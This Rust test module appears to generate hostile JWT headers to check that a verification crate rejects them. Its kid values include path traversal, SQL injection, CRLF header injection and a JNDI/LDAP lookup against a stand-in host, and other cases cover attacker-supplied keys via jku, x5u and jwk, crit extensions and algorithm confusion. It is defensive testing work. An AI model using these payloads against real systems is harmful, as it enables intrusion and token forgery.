//! Header parameters.

use serde_json::{Value, json};
use tower_jwt_auth::Algorithm;

use crate::attack::{
    ALGORITHM, Attack, KEY_UNKNOWN, MALFORMED, OTHER_AUDIENCE, SIGNATURE, TOO_LONG, TYPE,
    UNSUPPORTED, token,
};
use crate::site::{Site, encode, es256, forger, headed, token as valid_token};

#[allow(
    clippy::needless_pass_by_value,
    reason = "the JSON is written at the call"
)]
fn header(change: Value) -> String {
    let mut header = json!({"alg": "ES256", "kid": "key-ES256", "typ": "JWT"});
    header
        .as_object_mut()
        .unwrap()
        .extend(change.as_object().unwrap().clone());
    headed(&header.to_string())
}

pub(crate) fn key_ids(site: &Site) -> Vec<Attack> {
    let ids = [
        "",
        "../../../../../../dev/null",
        "/etc/passwd-telltale",
        "..\\..\\telltale\\win.ini",
        "telltale' OR 1=1 --",
        "x' UNION SELECT 'telltale-secret",
        "\0",
        "key-ES256\0",
        "key-ES256\0telltale",
        " key-ES256",
        "key-es256",
        "key-ES256\r\nSet-Cookie: telltale=1",
        "${jndi:ldap://telltale.example/}",
        "http://telltale.example/jwks",
        "\u{202e}652SE-yek",
        "ｋey-ES256",
    ];
    let mut attacks = Vec::new();
    for id in ids {
        attacks.push(token(
            format!("kid {id:?}"),
            header(json!({"kid": id})),
            KEY_UNKNOWN,
        ));
    }
    for (name, id) in [
        ("a path", "../../telltale"),
        ("SQL", "telltale' OR '1'='1"),
        ("of 10 KB", &"k".repeat(10_000)),
    ] {
        let fetched = site
            .fetched
            .token()
            .header("kid", id)
            .subject("telltale-subject")
            .sign();
        attacks.push(token(
            format!("kid {name}, where keys are fetched"),
            fetched,
            KEY_UNKNOWN,
        ));
    }
    attacks.push(token(
        "kid of 100 KB",
        header(json!({"kid": "k".repeat(100 * 1024)})),
        TOO_LONG,
    ));
    for id in [
        json!(null),
        json!(1),
        json!(["key-ES256"]),
        json!({"key-ES256": 1}),
        json!(true),
    ] {
        attacks.push(token(
            format!("kid {id}"),
            header(json!({"kid": id})),
            MALFORMED,
        ));
    }
    attacks
}

/// Keys that the token embeds or refers to. The trap notices a fetch of them.
pub(crate) fn attacker_keys(site: &Site) -> Vec<Attack> {
    let url = site.trap_url();
    let same_id = forger(Algorithm::ES256);
    let own_id = same_id.clone().with_key_id("telltale-key");
    let mut attacks = Vec::new();
    for (key, rejection) in [(&same_id, SIGNATURE), (&own_id, KEY_UNKNOWN)] {
        let chain = json!([encode(key.der())]);
        let offers = [
            ("jku", json!(url)),
            ("x5u", json!(url)),
            ("jwk", key.jwk()),
            ("x5c", chain),
            ("x5t#S256", json!("telltale-thumbprint")),
            ("iss", json!(url)),
        ];
        for (name, value) in offers {
            attacks.push(token(
                name,
                valid_token().key(key).header(name, &value).sign(),
                rejection,
            ));
            let fetched = site.fetched.token().key(key).header(name, &value).sign();
            attacks.push(token(
                format!("{name}, where keys are fetched"),
                fetched,
                KEY_UNKNOWN,
            ));
        }
        let jwk = valid_token()
            .key(key)
            .header("jwk", key.jwk())
            .without_header("kid")
            .sign();
        attacks.push(token("jwk without kid", jwk, SIGNATURE));
    }
    attacks
}

/// CVE-2025-59420: extensions in `crit` must be understood (RFC 7515 §4.1.11), and this crate
/// supports none.
pub(crate) fn extensions() -> Vec<Attack> {
    let crits = [
        json!(["telltale-extension"]),
        json!(["telltale-extension", "exp"]),
        json!([]),
        json!(["alg"]),
        json!(["kid", "typ"]),
        json!(["crit"]),
        json!(["exp"]),
        json!([""]),
        json!(["telltale", "telltale"]),
        json!([null]),
        json!("telltale"),
        json!(null),
        json!(1),
        json!({"telltale": true}),
    ];
    let mut attacks = Vec::new();
    for crit in crits {
        let name = format!("crit {crit}");
        let present = header(json!({"crit": crit, "telltale-extension": "telltale", "exp": 1}));
        attacks.push(token(&name, present, UNSUPPORTED));
        attacks.push(token(&name, header(json!({"crit": crit})), UNSUPPORTED));
    }
    let others = [
        ("b64:false", json!({"b64": false})),
        (
            "b64:false, critical",
            json!({"b64": false, "crit": ["b64"]}),
        ),
        ("b64:true", json!({"b64": true})),
        ("zip", json!({"zip": "DEF"})),
        ("zip null", json!({"zip": null})),
    ];
    attacks.extend(others.map(|(name, change)| token(name, header(change), UNSUPPORTED)));
    let header = r#"{"alg":"ES256","kid":"key-ES256","b64":false,"crit":["b64"]}"#;
    let unencoded = format!("{}.telltale-payload.{}", encode(header), encode([1; 64]));
    attacks.push(token("an unencoded payload", unencoded, UNSUPPORTED));
    attacks
}

pub(crate) fn algorithms() -> Vec<Attack> {
    let names = [
        "es256", "ES256 ", "ES256K", "RSA1_5", "dir", "RSA-OAEP", "HS1", "telltale", "Es256",
        "ES256\0", "eddsa",
    ];
    let misnamed = names.map(|name| {
        token(
            format!("alg {name:?}"),
            header(json!({"alg": name})),
            ALGORITHM,
        )
    });
    let types = [
        json!(null),
        json!(1),
        json!(["ES256"]),
        json!({"ES256": 1}),
        json!(false),
    ];
    let of_a_type =
        types.map(|alg| token(format!("alg {alg}"), header(json!({"alg": alg})), MALFORMED));
    let absent = token(
        "no alg",
        headed(r#"{"kid":"key-ES256","typ":"JWT"}"#),
        MALFORMED,
    );
    misnamed
        .into_iter()
        .chain(of_a_type)
        .chain([absent])
        .collect()
}

/// Tokens that the issuer signed for another purpose.
pub(crate) fn other_tokens() -> Vec<Attack> {
    let types = [
        "dpop+jwt",
        "logout+jwt",
        "secevent+jwt",
        "application/logout+jwt",
        "token-introspection+jwt",
        "oauth-authz-req+jwt",
        "entity-statement+jwt",
        "kb+jwt",
        "vc+sd-jwt",
        "JOSE",
        "JWE",
        "telltale",
        "",
        "at+jwt ",
    ];
    let mut attacks = Vec::new();
    for typ in types {
        attacks.push(token(
            format!("typ {typ:?}"),
            valid_token().header("typ", typ).sign(),
            TYPE,
        ));
    }
    let id_token = valid_token()
        .audience("telltale-client")
        .claim("nonce", "telltale-nonce")
        .claim("azp", "telltale-client");
    attacks.push(token("an id token", id_token.sign(), OTHER_AUDIENCE));
    let events = json!({"http://schemas.openid.net/event/backchannel-logout": {}});
    let logout = valid_token()
        .audience("telltale-client")
        .claim("events", events)
        .without_claim("sub");
    attacks.push(token(
        "a logout token without its type",
        logout.clone().sign(),
        TYPE,
    ));
    attacks.push(token(
        "a logout token",
        logout.header("typ", "logout+jwt").sign(),
        TYPE,
    ));
    let proof = es256()
        .token()
        .header("typ", "dpop+jwt")
        .header("jwk", es256().jwk())
        .without_header("kid");
    let proof = proof
        .claim("htm", "POST")
        .claim("htu", "https://api.example/telltale")
        .without_claim("aud");
    attacks.push(token("a DPoP proof", proof.sign(), TYPE));
    for typ in [json!(null), json!(1), json!(["JWT"])] {
        attacks.push(token(
            format!("typ {typ}"),
            header(json!({"typ": typ})),
            MALFORMED,
        ));
    }
    attacks
}
